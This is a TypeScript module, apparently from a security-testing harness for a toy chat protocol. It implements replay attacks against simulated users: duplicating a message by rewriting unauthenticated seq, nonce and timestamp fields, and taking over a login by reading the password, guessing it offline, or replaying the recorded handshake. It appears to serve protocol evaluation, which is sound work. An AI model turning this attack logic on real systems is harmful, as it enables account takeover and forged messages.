/**
 * Replay attacks, from the strongest position an attacker without a premise reaches
 * (attacks/kit/position.ts).
 *
 * `replay`: alice's canary message is delivered twice. Inside a channel the attacker took over it
 * re-seals the opened dm a second time; on a readable stream it sends the frame twice; inside a
 * channel it could not take, it re-sends the sealed frame — rewriting `seq` (and renumbering the
 * frames after it) or `ts`/`nonce` where the cipher authenticates nothing (null, aes-128-cbc) —
 * and inside TLS it could not terminate it re-sends the recorded record bytes. It also replays
 * alice's whole recorded session on a new connection after she leaves.
 *
 * `replay-login`: the attacker logs in as alice after she leaves — with her password when it read
 * her login frame, with a password guessed offline from a recorded challenge proof, or by
 * replaying her recorded login on a new connection.
 *
 * Success is measured at the receiver: bob got the canary again, or the server logged the
 * attacker's connection in as alice.
 */
import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Frame } from '../../core/frames.ts';
import { conversationEvidence, proxyEvidence, readableErrors } from '../kit/evidence.ts';
import { positionAddon, positionEvidence } from '../kit/position.ts';
import { replayLoginVerdict, replayVerdict, type ReplayLoginRun, type ReplayRun } from '../kit/replay-verdict.ts';
import { loginAs } from '../kit/login-as.ts';
import { guessProofOffline } from '../kit/offline-guess.ts';
import type { ProxyConnection, ProxyEngine, ReplayChunk, TrafficChunk } from '../proxy.ts';
import { CanaryMark } from '../kit/canary-mark.ts';
import { readableInner } from '../kit/rewrite.ts';
import type { Attack, Evidence, LiveConversation } from '../types.ts';

/** Pause between replayed chunks, ms: lets the server answer each flight as it did live. */
const REPLAY_PACING_MS = 10;
/**
 * Longest wait for the server (and bob) to accept or refuse a replay, ms. The wait ends as soon
 * as either is observed; a run that sees neither is inconclusive (outcome error), never blocked.
 */
const REPLAY_VERDICT_TIMEOUT_MS = 4000;

/** Polls `done` every 10 ms until it is true or `timeoutMs` passed. @returns whether it became true */
async function waitFor(done: () => boolean, timeoutMs = REPLAY_VERDICT_TIMEOUT_MS): Promise<boolean> {
  const end = performance.now() + timeoutMs;
  while (!done()) {
    if (performance.now() > end) return false;
    await sleep(10);
  }
  return true;
}

/**
 * Chunks alice sent on the wire, in order, each marked with whether the server had spoken since
 * her previous chunk (so a replay waits for the answer where she did), and the first chunk at or
 * after the mark (the canary).
 */
function aliceWire(eng: ProxyEngine, mark: CanaryMark): { chunks: Array<TrafficChunk & ReplayChunk>; canary: TrafficChunk | undefined } {
  const conn = eng.connectionByPeer(mark.alicePeer);
  if (!conn) return { chunks: [], canary: undefined };
  const chunks: Array<TrafficChunk & ReplayChunk> = [];
  let serverSpoke = false;
  for (const c of eng.traffic) {
    if (c.conn !== conn.record.id || c.layer !== 'client-wire') continue;
    if (c.dir === 's2c') serverSpoke = true;
    else {
      chunks.push({ ...c, awaitAnswer: serverSpoke });
      serverSpoke = false;
    }
  }
  return { chunks, canary: mark.atMs === null ? undefined : chunks.find((c) => c.t >= mark.atMs!) };
}

const isCanaryDm = (f: Frame, canary: string) => (f.type === 'dm' || f.type === 'msg') && typeof f.text === 'string' && f.text.includes(canary);

/**
 * The copy of a sealed frame an attacker without the key sends again. Fields the cipher leaves
 * unauthenticated (no `tag`: null and aes-128-cbc bind nothing, docs/channel.md) are rewritten so
 * the receiver's replay check passes: `seq` to the next number, `ts`/`nonce` to fresh values.
 * @returns the copy and a sentence on how it was made
 */
export function replayCopy(frame: Frame): { copy: Frame; how: string; shiftsSeq: boolean } {
  if (frame.tag !== undefined) return { copy: { ...frame }, how: 're-sent the sealed frame as recorded (a MAC binds its seq/ts/nonce, so rewriting them is pointless)', shiftsSeq: false };
  const copy: Frame = { ...frame };
  const changed: string[] = [];
  let shiftsSeq = false;
  if (typeof frame.seq === 'string' && /^\d+$/.test(frame.seq)) {
    copy.seq = String(BigInt(frame.seq) + 1n);
    shiftsSeq = true;
    changed.push(`seq ${frame.seq} → ${copy.seq} (and renumbered alice's later frames)`);
  }
  if (frame.nonce !== undefined) {
    copy.nonce = randomBytes(16).toString('base64');
    changed.push('a fresh nonce');
  }
  if (typeof frame.ts === 'number') {
    copy.ts = Date.now();
    changed.push('ts = now');
  }
  const why = frame.plaintext !== undefined ? 'the null cipher authenticates nothing' : 'CBC without a MAC authenticates nothing';
  return { copy, how: changed.length ? `re-sent the sealed frame with ${changed.join(', ')} — ${why}` : 're-sent the sealed frame as recorded (it carries no replay field)', shiftsSeq };
}

export const replay: Attack = {
  id: 'replay',
  title: 'Replay a message',
  description:
    'From the strongest position it reaches without a premise, the attacker delivers alice\'s canary message a second time: re-sealed inside a channel it took over, duplicated on a readable stream, re-sent with its unauthenticated seq/nonce rewritten, or replayed as recorded bytes; and it replays her recorded session on a new connection after she leaves. Succeeds only if bob receives the canary a second time.',
  async run(ctx) {
    const pos = await ctx.position();
    const mark = new CanaryMark();
    let copied: { how: string; conn: ProxyConnection } | null = null;
    /** alice's connection: how far her later sealed frames' seq must be shifted after a copy */
    let seqShift = 0n;
    const positioned = positionAddon(pos, ctx.pki, {
      name: 'replay',
      onFrame(conn, dir, frame, at) {
        if (dir !== 'c2s' || !mark.isAlice(conn)) return undefined;
        if (copied) {
          if (seqShift && frame.type === 'sealed' && typeof frame.seq === 'string') return { ...frame, seq: String(BigInt(frame.seq) + seqShift) };
          return undefined;
        }
        if (isCanaryDm(frame, ctx.canary)) {
          copied = { conn, how: at === 'channel' ? 're-sealed alice\'s dm a second time in the channel it negotiated with the server' : 'sent alice\'s readable dm twice' };
          conn.note(copied.how);
          return [frame, frame];
        }
        // Inside a channel it could not take: by traffic analysis, alice's first sealed frame after the mark.
        if (at === 'frames' && frame.type === 'sealed') {
          const r = replayCopy(frame);
          copied = { conn, how: r.how };
          if (r.shiftsSeq) seqShift = 1n;
          conn.note(r.how);
          return [frame, r.copy];
        }
        return undefined;
      },
    });
    let replayed: ReplayRun | null = null;
    const countCopies = (live: LiveConversation) => live.bob.received.filter((f) => f.type === 'dm' && f.from === 'alice' && String(f.text).includes(ctx.canary)).length;
    let log: Array<{ event: string; peer?: string }> = [];
    const refusedFor = (peer: string | null) => log.some((e) => e.peer === peer && ['channel_error', 'socket_error', 'tls_error', 'protocol_error'].includes(e.event));
    const obs = await ctx.runConversation({
      addon: positioned.addon,
      beforeCanary: mark.beforeCanary,
      afterExchange: async (live) => {
        const eng = live.proxy!;
        const { chunks, canary } = aliceWire(eng, mark);
        const conn = eng.connectionByPeer(mark.alicePeer);
        if (!canary || !conn) return;
        log = live.serverLog;
        const sameConnPeer = conn.record.upstreamLocal;
        let how: string;
        if (copied) {
          how = (copied as { how: string }).how;
          await waitFor(() => countCopies(live) > 1 || refusedFor(sameConnPeer) || live.alice.closed);
        } else {
          // Inside TLS it could not terminate: re-send the recorded record bytes in her connection.
          const before = countCopies(live);
          conn.inject('c2s', canary.data);
          how = 're-sent the recorded bytes of alice\'s message in her connection';
          conn.note(`replayed ${canary.data.length} recorded bytes of alice's canary message in her own connection`);
          await waitFor(() => countCopies(live) > before || refusedFor(sameConnPeer) || live.alice.closed);
        }
        const sameConnection = { how, peer: sameConnPeer, copies: countCopies(live) - 1 };
        await live.alice.quit(); // free her account, as if she had gone home
        const beforeNew = countCopies(live);
        const newConnection = await eng.replayOnNewConnection(
          chunks.filter((c) => c.t <= canary.t),
          { paceMs: REPLAY_PACING_MS, timeoutMs: REPLAY_VERDICT_TIMEOUT_MS, settled: (peer, answer) => countCopies(live) > beforeNew || refusedFor(peer) || readableErrors(answer).length > 0 },
        );
        replayed = { sameConnection, newConnection, timeoutMs: REPLAY_VERDICT_TIMEOUT_MS };
      },
    });
    const evidence: Evidence[] = [...positionEvidence(pos), ...proxyEvidence(obs), ...conversationEvidence(obs)];
    return replayVerdict(pos, replayed, obs, evidence);
  },
};

export const replayLogin: Attack = {
  id: 'replay-login',
  title: 'Replay a login',
  description:
    'From the strongest position it reaches without a premise, the attacker logs in as alice after she leaves: with her password if it read her login frame, with a password guessed offline from her recorded challenge proof, or by replaying her recorded login on a new connection. Succeeds only if the server logs the attacker in as alice.',
  async run(ctx) {
    const pos = await ctx.position();
    const mark = new CanaryMark();
    let loginFrame: { frame: Frame; at: string } | null = null;
    let challenge: Frame | null = null;
    const positioned = positionAddon(pos, ctx.pki, {
      name: 'replay-login',
      onFrame(_conn, dir, sealedOrNot, at) {
        // Under the null cipher a sealed frame carries its chat frame readable: a passive reader takes it.
        const frame = readableInner(sealedOrNot);
        if (!frame) return undefined;
        const where = frame === sealedOrNot ? at : 'null-cipher';
        if (dir === 'c2s' && frame.type === 'login' && frame.username === 'alice' && !loginFrame) loginFrame = { frame, at: where };
        if (dir === 's2c' && frame.type === 'challenge' && frame.username === 'alice' && !loginFrame) challenge = frame;
        return undefined;
      },
    });
    const run: ReplayLoginRun = { loginSeen: false, guess: null, recovered: null, replayed: null, timeoutMs: REPLAY_VERDICT_TIMEOUT_MS };
    let log: Array<{ event: string; peer?: string }> = [];
    const obs = await ctx.runConversation({
      addon: positioned.addon,
      beforeCanary: mark.beforeCanary,
      afterExchange: async (live) => {
        const eng = live.proxy!;
        log = live.serverLog;
        const { chunks } = aliceWire(eng, mark);
        await live.alice.quit();
        const lf = loginFrame as { frame: Frame; at: string } | null;
        run.loginSeen = lf !== null;
        const where = lf?.at === 'channel' ? 'opened from the secure channel it took over' : lf?.at === 'null-cipher' ? 'readable inside a null-cipher sealed frame' : 'read on the stream';
        let recovered: { password: string; how: string } | null = null;
        if (lf && typeof lf.frame.password === 'string') recovered = { password: lf.frame.password, how: `read alice's password in her login frame (${where})` };
        else if (lf && typeof lf.frame.proof === 'string' && challenge) {
          const g = await guessProofOffline(challenge, lf.frame.proof, 'alice', { thief: { budgetCoreSeconds: ctx.crackBudgetCoreSeconds, knownPassword: ctx.users.alice } });
          run.guess = g.detail;
          if (g.password !== null) recovered = { password: g.password, how: `recorded alice's challenge and proof (${where}) and ${g.detail}` };
        }
        if (recovered) {
          run.recovered = { ...recovered, login: await loginAs(ctx.profile, ctx.pki, live.server.port, 'alice', recovered.password) };
          if (run.recovered.login.ok) return;
        }
        // Everything alice sent before her first message: handshake (if any) and login.
        run.replayed = await eng.replayOnNewConnection(
          chunks.filter((c) => c.t < (mark.atMs ?? 0)),
          {
            paceMs: REPLAY_PACING_MS,
            timeoutMs: REPLAY_VERDICT_TIMEOUT_MS,
            settled: (peer, answer) => log.some((e) => e.peer === peer && ['login', 'channel_error', 'socket_error', 'tls_error'].includes(e.event)) || readableErrors(answer).length > 0,
          },
        );
      },
    });
    const evidence: Evidence[] = [...positionEvidence(pos), ...proxyEvidence(obs), ...conversationEvidence(obs)];
    return replayLoginVerdict(pos, run, obs, evidence);
  },
};
